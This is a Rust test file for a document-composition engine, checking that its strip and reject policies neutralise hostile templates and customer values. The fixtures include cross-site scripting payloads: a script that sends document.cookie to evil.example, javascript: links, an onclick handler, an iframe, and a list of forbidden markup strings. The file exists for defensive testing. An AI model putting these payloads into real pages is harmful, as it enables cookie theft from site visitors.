//! Hostile templates through the full engine

use crate::common::*;
use docket::{
    ComposeError, ComposeRequest, DocketConfig, DocumentType, EngineError, MarkupFormat, RenderError,
    SectionKind, Template, TemplateKind, UnsafeMarkupPolicy,
};

const HOSTILE: &str = "<h1 onclick=\"steal()\">{{document.number}}</h1>\
    <script>fetch('https://evil.example/?c=' + document.cookie)</script>\
    <p>Hello <a href=\"javascript:alert(1)\">{{customer.name}}</a>, \
    see <a href=\"https://docket.example/terms\">terms</a>.</p>\
    <iframe src=\"https://evil.example\"></iframe>";

fn hostile_engine(policy: UnsafeMarkupPolicy) -> TestEngine {
    let mut config = DocketConfig::default();
    config.render.unsafe_markup = policy;
    let t = TestEngine::with_config(config);
    t.templates
        .insert(Template::new("hostile", "Hostile", TemplateKind::CoverPage, HOSTILE));
    t.templates.insert(
        Template::new(
            "hostile-md",
            "Hostile markdown",
            TemplateKind::Legal,
            "Click [here](javascript:alert(1)) or <script>x()</script> {{customer.name}}",
        )
        .with_format(MarkupFormat::Markdown),
    );
    t
}

#[test]
fn strip_policy_keeps_only_safe_subset() {
    let t = hostile_engine(UnsafeMarkupPolicy::Strip);
    let req = ComposeRequest::new(DocumentType::Quote, t.body_of(DocumentType::Quote), t.acme())
        .with_cover("hostile")
        .with_legal("hostile-md");

    let doc = t.engine.compose_new(&req).unwrap();
    let cover = doc.section(SectionKind::CoverPage).unwrap().as_str();
    assert_eq!(
        cover,
        "<h1>QUO-001</h1>\n<p>Hello Jane Doe, see <a href=\"https://docket.example/terms\">terms</a>.</p>"
    );

    let html = doc.to_html().to_ascii_lowercase();
    for forbidden in ["<script", "javascript:", "onclick", "<iframe", "document.cookie"] {
        assert!(!html.contains(forbidden), "{} survived in {}", forbidden, html);
    }
}

#[test]
fn reject_policy_fails_before_allocation() {
    let t = hostile_engine(UnsafeMarkupPolicy::Reject);
    let req = ComposeRequest::new(DocumentType::Quote, t.body_of(DocumentType::Quote), t.acme())
        .with_cover("hostile");

    let err = t.engine.compose_new(&req).unwrap_err();
    assert!(matches!(
        err,
        EngineError::Compose(ComposeError::SectionFailed(
            SectionKind::CoverPage,
            RenderError::UnsafeMarkupRejected(_)
        ))
    ));

    // Clean templates still compose, starting from the first number
    let req = ComposeRequest::new(DocumentType::Quote, t.body_of(DocumentType::Quote), t.acme())
        .with_cover(COVER)
        .with_legal(TERMS);
    assert_eq!(t.engine.compose_new(&req).unwrap().number(), "QUO-001");
}

#[test]
fn reject_policy_ignores_hostile_values() {
    let t = hostile_engine(UnsafeMarkupPolicy::Reject);
    let customer = t.add_customer(docket::Customer::new("<script>alert(1)</script>"));
    let req = ComposeRequest::new(DocumentType::Quote, t.body_of(DocumentType::Quote), customer)
        .with_cover(COVER);

    let doc = t.engine.compose_new(&req).unwrap();
    assert!(doc
        .section(SectionKind::CoverPage)
        .unwrap()
        .as_str()
        .contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}
